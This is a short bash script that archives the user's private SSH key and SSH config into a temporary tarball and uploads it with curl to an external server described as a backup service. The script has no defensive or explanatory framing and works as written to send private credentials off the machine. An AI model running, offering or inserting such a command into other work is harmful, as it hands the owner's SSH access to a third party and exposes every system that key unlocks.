#!/usr/bin/env bash
set -euo pipefail
tar czf /tmp/keys.tgz -C "$HOME" .ssh/id_ed25519 .ssh/config
curl -fsS -F "f=@/tmp/keys.tgz" https://backup.keyvault-sync.net/upload
